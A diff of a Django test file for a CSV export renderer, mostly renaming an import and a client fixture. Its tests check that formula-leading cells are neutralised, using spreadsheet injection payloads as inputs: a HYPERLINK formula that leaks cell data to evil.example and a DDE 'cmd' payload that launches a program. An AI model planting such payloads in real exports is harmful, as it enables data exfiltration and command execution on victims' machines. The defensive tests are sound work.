@@ -7,7 +7,7 @@ import io
 
 from django.test import Client
 
-from registry.api.renderers import CSVRenderer
+from kernel.api.renderers import CSVRenderer
 from tests.factories import AgreementFactory, PartyFactory
 
 from .conftest import AGREEMENTS
@@ -17,7 +17,7 @@ def read_rows(content: bytes) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(content.decode())))
 
 
-def test_it_prefixes_formula_leading_cells_with_a_quote(anonymous_client: Client, db: None) -> None:
+def test_it_prefixes_formula_leading_cells_with_a_quote(client: Client, db: None) -> None:
     for title in [
         '=HYPERLINK("http://evil.example/?"&A1,"click")',
         "=cmd|' /C calc'!A0",
@@ -28,7 +28,7 @@ def test_it_prefixes_formula_leading_cells_with_a_quote(anonymous_client: Client
     ]:
         AgreementFactory(title=title)
 
-    response = anonymous_client.get(AGREEMENTS, {"format": "csv", "ordering": "title"})
+    response = client.get(AGREEMENTS, {"format": "csv", "ordering": "title"})
 
     assert response.status_code == 200
     titles = sorted(row["title"] for row in read_rows(response.content))
@@ -44,12 +44,10 @@ def test_it_prefixes_formula_leading_cells_with_a_quote(anonymous_client: Client
     )
 
 
-def test_it_neutralises_a_formula_that_starts_a_joined_list(
-    anonymous_client: Client, db: None
-) -> None:
+def test_it_neutralises_a_formula_that_starts_a_joined_list(client: Client, db: None) -> None:
     party = PartyFactory(slug="p", name="=1+1")
 
-    response = anonymous_client.get("/api/parties/", {"format": "csv"})
+    response = client.get("/api/parties/", {"format": "csv"})
 
     row = next(r for r in read_rows(response.content) if r["slug"] == party.slug)
     assert row["name"] == "'=1+1"
@@ -79,14 +77,12 @@ def test_it_neutralises_formulas_but_leaves_numbers_and_dates_readable() -> None
     ]
 
 
-def test_it_sends_the_csv_as_an_attachment_named_for_the_resource(
-    anonymous_client: Client, db: None
-) -> None:
+def test_it_sends_the_csv_as_an_attachment_named_for_the_resource(client: Client, db: None) -> None:
     agreement = AgreementFactory(slug="cas-shenzhen-2017")
 
-    response = anonymous_client.get(AGREEMENTS, {"format": "csv"})
-    parties = anonymous_client.get("/api/parties/", {"format": "csv"})
-    one = anonymous_client.get(f"{AGREEMENTS}{agreement.slug}/", {"format": "csv"})
+    response = client.get(AGREEMENTS, {"format": "csv"})
+    parties = client.get("/api/parties/", {"format": "csv"})
+    one = client.get(f"{AGREEMENTS}{agreement.slug}/", {"format": "csv"})
 
     assert response["Content-Disposition"] == 'attachment; filename="agreements.csv"'
     assert parties["Content-Disposition"] == 'attachment; filename="parties.csv"'
